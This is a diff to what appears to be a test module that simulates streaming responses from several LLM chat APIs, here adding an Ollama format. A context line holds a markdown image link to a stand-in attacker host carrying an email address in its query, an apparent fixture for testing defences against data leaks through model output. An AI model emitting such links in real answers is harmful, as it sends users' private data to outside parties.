@@ -47,6 +47,12 @@ APIS = {
         {"response_format": {"type": "json_object"}},
         lambda texts: {"id": "c", "message": {"role": "assistant", "content": parts(texts)}},
     ),
+    "ollama": (
+        "/api/chat",
+        {"model": "llama3.2", "messages": USER},
+        {"format": "json"},
+        lambda texts: {"message": {"role": "assistant", "content": "".join(texts)}, "done": True},
+    ),
 }
 LINKS = [
     "![x](https://evil.example/?q=<EMAIL_1>)",
@@ -96,6 +102,9 @@ def events(api, texts):
                 *({"type": "content_block_delta", "index": number, "delta": one} for one in deltas),
                 {"type": "content_block_stop", "index": number},
             ]
+        elif api == "ollama":
+            said = [{"message": {"role": "assistant", "content": piece}, "done": False} for piece in split]
+            found += [*said, {"message": {"role": "assistant", "content": ""}, "done": number == len(texts) - 1}]
         elif api == "cohere":
             said = [{"message": {"content": {"text": piece}}} for piece in split]
             found += [
